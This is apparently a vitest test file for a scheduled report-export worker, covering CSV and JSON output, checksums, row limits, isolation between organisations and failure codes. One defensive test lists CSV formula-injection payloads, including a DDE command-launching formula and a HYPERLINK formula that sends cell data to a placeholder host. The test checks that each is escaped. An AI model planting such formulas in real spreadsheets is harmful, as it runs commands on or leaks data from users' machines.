import { createHash } from 'node:crypto';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { join, signUp } from '#test/people';
import { DAY_1, day, useWorld } from '#test/worker-world';

const world = useWorld();

/** Runs a schedule's first occurrence and answers its run. */
async function ran(values: Record<string, unknown> = {}, deps: Parameters<typeof world.tick>[0] = {}) {
  const id = await world.schedule(values);
  await world.tick({ now: DAY_1, ...deps });
  return world.run(id);
}

async function text(run: Record<string, unknown>): Promise<string> {
  return (await world.file(String(run.id))).toString('utf8');
}

const ODD = [
  {
    name: 'Zoë “Ω” 東京 👩‍🚀',
    amount: '12345678901234567890.12',
    active: true,
    day: '2026-02-28',
    tags: ['a,b', '=c'],
  },
  { name: 'line one\r\nline "two", three', amount: '-5', active: false, at: '2026-03-08T07:30:00Z' },
  { name: '', extra: { nested: ['ü', null] }, key: '7d8f0c1e-0000-4000-8000-000000000001' },
  { name: null },
  { name: '\u0001\u001f \\ \t /', amount: '0.10' },
];

describe('a CSV file', () => {
  it('comes back from a parser as the rows that went in, with labels as its header', async () => {
    await world.items(ODD);
    const run = await ran({
      timezone: 'America/New_York',
      recurrence: '0 4 * * *',
      sort: '[{"column":"id","direction":"asc"}]',
    });
    const { data, errors } = Papa.parse<string[]>(await text(run), { skipEmptyLines: true });
    expect(errors).toEqual([]);
    expect(data).toEqual([
      ['Id', 'Name', 'Amount', 'Active', 'Day', 'At', 'Key', '\'=Tags, "quoted"', 'Extra'],
      ['1', ODD[0]?.name, '12345678901234567890.12', 'true', '2026-02-28', '', '', '{"a,b",=c}', ''],
      // 07:30Z is half an hour after New York's clocks went forward.
      ['2', ODD[1]?.name, '-5', 'false', '', '2026-03-08T03:30:00', '', '', ''],
      ['3', '', '', '', '', '', '7d8f0c1e-0000-4000-8000-000000000001', '', '{"nested": ["ü", null]}'],
      ['4', '', '', '', '', '', '', '', ''],
      ['5', ODD[4]?.name, '0.10', '', '', '', '', '', ''],
    ]);
  });

  it('holds no text that a spreadsheet would run, and leaves numbers alone', async () => {
    const payloads = [
      ...[
        '=1+1',
        '+1',
        '-1',
        '@SUM(A1)',
        '\t=1',
        '\r=1',
        '\n=1',
        ' =1',
        '\u00a0=1',
        '\u3000=1',
        '＝1',
        '＋1',
        '－1',
        '＠a',
      ],
      ...['=cmd|"/c calc"!A1', '=HYPERLINK("http://x.example?"&A1,"a")', '\ttab', '\rreturn', '\nfeed'],
    ];
    const harmless = ['a=1', "'=1", '1-1', 'x@y.example', '"=1"', '  plain'];
    await world.items([...payloads, ...harmless].map((name) => ({ name, amount: -1 })));
    const run = await ran({ columns: ['name', 'amount'], sort: '[{"column":"id","direction":"asc"}]' });
    const { data } = Papa.parse<string[]>((await text(run)).trimEnd());
    const cells = data.slice(1).map(([name]) => name);
    expect(cells.slice(0, payloads.length)).toEqual(payloads.map((payload) => `'${payload}`));
    expect(cells.slice(payloads.length)).toEqual(harmless);
    expect(new Set(data.slice(1).map(([, amount]) => amount))).toEqual(new Set(['-1']));
  });
});

it('a JSON file parses to the rows, with numbers, booleans, nulls and lists of their own type', async () => {
  await world.items(ODD);
  const run = await ran({ format: 'json', sort: '[{"column":"id","direction":"desc"}]' });
  const { rows } = await world.pool.query(
    'select id, name, amount, active, day::text, at, key, tags, extra from testing.items where organization_id = $1 order by id desc',
    [world.organization],
  );
  const parsed = JSON.parse(await text(run)).map((row: Record<string, unknown>) => ({
    ...row,
    amount: row.amount === null ? null : expect.anything(),
    at: row.at && new Date(String(row.at)),
  }));
  expect(rows).toEqual(parsed);
  expect(await text(run)).toContain('"amount":"12345678901234567890.12"');
  expect(await text(run)).toContain('"active":true');
});

it.each([
  ['csv', 'Name\n'],
  ['json', '[]\n'],
  ['ndjson', ''],
])('an empty report is a whole %s file', async (format, whole) => {
  await world.items([]);
  const run = await ran({ format, columns: ['name'] });
  expect(run).toMatchObject({ status: 'succeeded' });
  expect(await text(run)).toBe(whole);
});

it('records size, rows, checksum, name and retention of the file that was sent', async () => {
  await world.items([{ name: 'a' }, { name: 'b' }, { name: 'c' }]);
  const run = await ran({ name: 'Über/Maß: Q1!', columns: ['name'], sort: '[{"column":"name","direction":"desc"}]' });
  const bytes = await world.file(run.id);
  expect(bytes.toString()).toBe('Name\nc\nb\na\n');
  const file = await world.row('select *, expires_at - now() as left from export_files');
  expect(file).toMatchObject({
    name: 'über-maß-q1_2026-03-02_0900.csv',
    status: 'ready',
    row_count: 3,
    byte_size: bytes.length,
    sha256: createHash('sha256').update(bytes).digest('hex'),
    rows_sha256: createHash('sha256').update('c\nb\na\n').digest('hex'),
    truncated: false,
    path: `${world.organization}/${run.id}/${file.lease_token}/file`,
  });
  expect(file.left.days).toBe(29);
  expect(run.progress_rows).toBe(3);
  expect(world.smtp.received[0]?.raw).toContain(bytes.toString('base64'));
});

describe('a row limit', () => {
  it.each([
    [2, true],
    [3, false],
    [4, false],
  ])('of %i for three rows says whether rows were left out: %s', async (row_limit, truncated) => {
    await world.items([{ name: 'a' }, { name: 'b' }, { name: 'c' }]);
    await ran({ row_limit });
    expect(await world.row('select row_count::int, truncated, notes from export_files')).toEqual({
      row_count: Math.min(row_limit, 3),
      truncated,
      notes: truncated ? [{ code: 'rows_left_out', count: row_limit, names: [], more_names: 0 }] : [],
    });
  });
});

describe('the owner', () => {
  it('gets no rows of another organisation, not even through a view that names none', async () => {
    const stranger = await signUp(world.pool, 'Stranger');
    await world.items([{ name: 'theirs' }], stranger.home);
    const run = await ran({ columns: ['name'] });
    expect(await text(run)).toBe('Name\nAna\n');
    const second = await ran({ report_type: 'memberships', columns: ['role'], name: 'b' }, { now: day(1) });
    expect(await text(second)).toBe('Role\nowner\n');
  });

  it('gets no rows of another organisation that they belong to, too', async () => {
    const colleague = await signUp(world.pool, 'Colleague');
    await join(world.pool, world.owner, colleague.home, 'owner');
    await world.items([{ name: 'elsewhere' }], colleague.home);
    expect(await text(await ran({ columns: ['name'] }))).toBe('Name\nAna\n');
  });

  it.each([
    ['has left the organisation', `delete from memberships where user_id = $1 and organization_id = $2`],
    ['may only look any more', `update memberships set role = 'viewer' where user_id = $1 and organization_id = $2`],
  ])('who %s exports nothing', async (_why, sql) => {
    const editor = await signUp(world.pool, 'Edgar');
    await join(world.pool, editor, world.organization, 'editor');
    const id = await world.schedule({ owner_id: editor.id });
    await world.tick({ now: DAY_1, concurrency: 0 }); // planned while all was well
    await world.rows(sql, [editor.id, world.organization]);
    await world.tick({ now: DAY_1 });
    expect(await world.run(id)).toMatchObject({ status: 'failed', error_code: 'owner_lost_access', attempt: 1 });
    expect(world.smtp.received.filter(({ to }) => to.includes('ana@x.example'))).toEqual([]);
    expect(await world.rows(`select from export_files where status <> 'removed'`)).toEqual([]);
  });

  it('who is gone leaves a run that says so', async () => {
    expect(await ran({ owner_id: null })).toMatchObject({ status: 'failed', error_code: 'owner_missing' });
  });
});

describe('what will not mend itself fails at once, with a code and a sentence', () => {
  it.each([
    ['a report that is gone', { report_type: 'no_such_report' }, 'report_missing', /no longer exists/],
    ['a view of another schema', { report_type: 'pg_class' }, 'report_missing', /no longer exists/],
    ['a column that is gone', { columns: ['name', 'gone'] }, 'column_missing', /no column “gone”/],
    ['a filter on a column that is gone', { filters: { gone: 1 } }, 'column_missing', /no column “gone”/],
    ['a sort by a column that is gone', { sort: '[{"column":"gone","direction":"asc"}]' }, 'column_missing', /“gone”/],
    ['a filter of the wrong type', { filters: { amount: 'many' } }, 'invalid_definition', /not a number/],
    ['a filter that is no condition', { filters: { name: null } }, 'invalid_definition', /is no value/],
    ['a format that is none', { format: 'xls' }, 'invalid_definition', /settings that cannot be run/],
    [
      'an option that the format lacks',
      { format_options: { indent: 2 } },
      'invalid_definition',
      /format_options\.indent/,
    ],
    ['a sort that is none', { sort: '[{"by":"name"}]' }, 'invalid_definition', /settings that cannot be run/],
    [
      'a target that is none',
      { targets: '[{"method":"fax","to":["1"]}]' },
      'invalid_definition',
      /settings that cannot/,
    ],
  ])('%s', async (_what, values, error_code, message) => {
    const run = await ran(values);
    expect(run).toMatchObject({ status: 'failed', error_code, attempt: 1 });
    expect(run.error_message).toMatch(message);
    expect(run.error_message).not.toMatch(/select|relation|sql/i);
    expect(await world.rows(`select from export_files where status <> 'removed'`)).toEqual([]);
  });

  it('a report that takes too long', async () => {
    await world.items(Array.from({ length: 20 }, () => ({ name: 'slow' })));
    const run = await ran({ report_type: 'slow_items' }, { reportTimeoutMs: 300 });
    expect(run).toMatchObject({ status: 'failed', error_code: 'report_timeout', attempt: 1 });
  });

  it('a view that fails on the data', async () => {
    await world.rows(`create view reports.broken with (security_invoker = true) as
      select organization_id, 1 / (id - id) as quotient from testing.items`);
    try {
      expect(await ran({ report_type: 'broken' })).toMatchObject({ status: 'failed', error_code: 'report_broken' });
    } finally {
      await world.rows('drop view reports.broken');
    }
  });

  it('a view without its owner’s rights in force is no report', async () => {
    await world.rows('create view reports.open_door as select organization_id, name from testing.items');
    try {
      expect(await ran({ report_type: 'open_door' })).toMatchObject({ status: 'failed', error_code: 'report_missing' });
    } finally {
      await world.rows('drop view reports.open_door');
    }
  });
});

describe('a report without rows', () => {
  it.each([
    ['send', { status: 'succeeded', reason: null, error_code: null }, 1],
    ['skip', { status: 'skipped', reason: 'empty', error_code: null }, 0],
    ['fail', { status: 'failed', reason: null, error_code: 'report_empty' }, 0],
  ])('with “%s”', async (when_empty, outcome, mails) => {
    const run = await ran({ when_empty, filters: { name: 'nobody' } });
    expect(run).toMatchObject(outcome);
    expect(run.finished_at).not.toBeNull();
    expect(world.smtp.received.filter(({ to }) => to.includes('ana@x.example'))).toHaveLength(mails);
    expect(await world.rows(`select from export_files where status = 'writing'`)).toEqual([]);
  });
});

it('a report with the same rows as last time is skipped where its schedule says so, until a row changes', async () => {
  const id = await world.schedule({ when_unchanged: 'skip', sort: '[{"column":"id","direction":"asc"}]' });
  for (const each of [0, 1, 2]) await world.tick({ now: day(each) });
  await world.items([{ name: 'Ben' }]);
  await world.tick({ now: day(3) });
  await world.tick({ now: day(4) });
  expect((await world.runs(id)).map(({ status, reason }) => [status, reason])).toEqual([
    ['succeeded', null],
    ['skipped', 'unchanged'],
    ['skipped', 'unchanged'],
    ['succeeded', null],
    ['skipped', 'unchanged'],
  ]);
  expect(world.smtp.received).toHaveLength(2);
});
